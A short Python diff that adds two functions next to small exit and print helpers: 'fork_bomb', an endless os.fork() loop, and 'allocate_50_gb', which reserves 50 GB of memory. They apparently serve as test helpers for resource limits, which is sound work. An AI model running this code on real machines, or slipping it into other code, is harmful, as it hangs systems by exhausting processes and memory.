@@ -33,3 +33,13 @@ def chatter(text: str) -> None:
 
 def leave(code: int) -> None:
     raise SystemExit(code)
+
+
+def fork_bomb(n: int) -> None:
+    while True:
+        os.fork()
+
+
+def allocate_50_gb(n: int) -> None:
+    block = bytearray(50 * 1024**3)
+    block[-1] = 1
